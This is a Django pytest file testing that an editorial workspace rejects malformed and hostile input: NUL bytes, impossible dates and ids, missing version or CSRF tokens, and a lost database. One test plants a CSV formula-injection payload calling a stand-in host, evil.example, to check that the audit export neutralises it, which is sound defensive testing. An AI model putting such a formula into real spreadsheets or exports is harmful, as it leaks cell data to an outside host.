"""The workspace answers malformed, stale and hostile input with a 4xx that says why, changing nothing.

Each reproduction from the contracts review is here by name; tests/test_url_sweep.py then
tries every URL with hostile parameters as every role.
"""

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse

from articles.models import Article
from editorial.workflow import services
from tests.conftest import verify_session
from tests.editorial.workspace.test_admin import change_form
from tests.factories import make_article


def change_url(article) -> str:
    return reverse("admin:articles_article_change", args=[article.pk])


@pytest.mark.django_db
def test_a_change_form_posted_without_its_version_is_refused_and_saves_nothing(client, author):
    article = make_article(author)
    client.force_login(author)
    form = change_form(article, summary="Overwrites whatever happened meanwhile.")
    del form["seen_row_version"]
    response = client.post(change_url(article), form)
    assert response.status_code == 200  # the form again, with the error
    assert "does not say which version of the article you started from" in response.content.decode()
    assert Article.objects.get(pk=article.pk).summary == article.summary


@pytest.mark.django_db
@pytest.mark.parametrize(
    "query",
    ["?status__exact=%00", "?author=%00", "?reviewer=%00", "?q=%00", "?stage=%00", "?mine=%00"],
)
def test_article_list_filters_with_a_nul_answer_400(client, editor, in_state, query):
    in_state("submitted")
    client.force_login(editor)
    response = client.get(reverse("admin:articles_article_changelist") + query)
    assert response.status_code == 400
    assert "NUL" in response.content.decode() and "Editorial workspace" in response.content.decode()


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("name", "query", "word"),
    [
        ("admin:metrics", "?days=1000000", "days"),
        ("admin:metrics", "?days=abc", "days"),
        ("admin:audit_export", "?from=2024-02-30", "from"),
        ("admin:audit_export", "?to=9999-12-31", "to"),
        ("admin:audit_export", "?article=99999999999999999999", "article"),
        ("admin:audit_export", "?format=xml", "format"),
    ],
)
def test_impossible_parameters_answer_400_naming_the_parameter(client, editor, name, query, word):
    client.force_login(editor)
    response = client.get(reverse(name) + query)
    assert response.status_code == 400
    assert f"{word}:" in response.content.decode()


@pytest.mark.django_db
def test_compare_and_inbox_refuse_ids_past_what_the_database_holds(client, editor, author, in_state):
    article = in_state("approved")
    client.force_login(editor)
    compare = reverse("admin:articles_article_compare", args=[article.pk]) + "?a=99999999999999999999&b=1"
    assert client.get(compare).status_code == 400
    inbox = client.post(reverse("admin:inbox"), {"notification": "99999999999999999999"})
    assert inbox.status_code == 400


@pytest.mark.django_db
def test_an_impossible_respond_by_date_is_a_form_error(client, editor, in_state, reviewers):
    article = in_state("submitted")
    client.force_login(editor)
    response = client.post(
        reverse("admin:articles_article_invite", args=[article.pk]),
        {"reviewer": [reviewers[0].pk], "respond_by": "2030-02-30", "due_at": "2030-03-10"},
    )
    assert response.status_code == 400
    assert "respond by: expected a date" in response.content.decode()
    assert not article.invitations.exists()


@pytest.mark.django_db
@pytest.mark.parametrize("field", ["reason", "password"])
def test_a_nul_in_a_transition_form_is_a_400_and_nothing_moves(client, editor, in_state, field):
    article = in_state("under_review")
    client.force_login(editor)
    url = reverse("admin:articles_article_transition", args=[article.pk, "reject"])
    data = {"reason": "Out of scope.", "row_version": article.row_version, field: "a\x00b"}
    assert client.post(url, data).status_code == 400
    assert Article.objects.get(pk=article.pk).status == "under_review"


@pytest.mark.django_db
def test_the_audit_csv_keeps_formulas_inert_and_opens_as_utf8_in_excel(client, auditor, editor, in_state):
    article = in_state("submitted")
    services.article_reject(article=article, actor=editor, reason='=HYPERLINK("http://evil.example/"&A1,"click")')
    client.force_login(auditor)
    response = client.get(reverse("admin:audit_export") + f"?article={article.pk}&format=csv")
    raw = b"".join(response.streaming_content)
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 byte order mark
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    reasons = [row[rows[0].index("reason")] for row in rows[1:]]
    assert '\'=HYPERLINK("http://evil.example/"&A1,"click")' in reasons
    cells = [cell for row in rows for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


@pytest.mark.django_db
def test_error_pages_are_the_sites_own_and_a_lost_database_is_a_503(editor, monkeypatch):
    from django.db.backends.base.base import BaseDatabaseWrapper
    from django.db.utils import OperationalError

    client = Client(raise_request_exception=False)
    client.force_login(editor)
    verify_session(client, editor)
    assert "Editorial workspace" in client.get("/admin/articles/article/0/history/compare/").content.decode()

    def unreachable(self, *args, **kwargs):
        raise OperationalError("could not connect to server: Connection refused")

    monkeypatch.setattr(BaseDatabaseWrapper, "ensure_connection", unreachable)
    for path, marker in (("/admin/", "Editorial workspace"), ("/", "Reviewed <span>Medical</span> Answers")):
        response = client.get(path)
        assert response.status_code == 503 and response["Retry-After"] == "30"
        assert marker in response.content.decode() and "briefly unavailable" in response.content.decode()
    api = client.get("/api/v1/articles/")
    assert api.status_code == 503 and api.json()["code"] == "http_503"


@pytest.mark.django_db
def test_a_form_without_its_csrf_token_gets_the_workspaces_403(editor):
    client = Client(enforce_csrf_checks=True)
    client.force_login(editor)
    response = client.post(reverse("admin:inbox"), {"all": "1"})
    assert response.status_code == 403
    assert "Editorial workspace" in response.content.decode() and "expired" in response.content.decode()
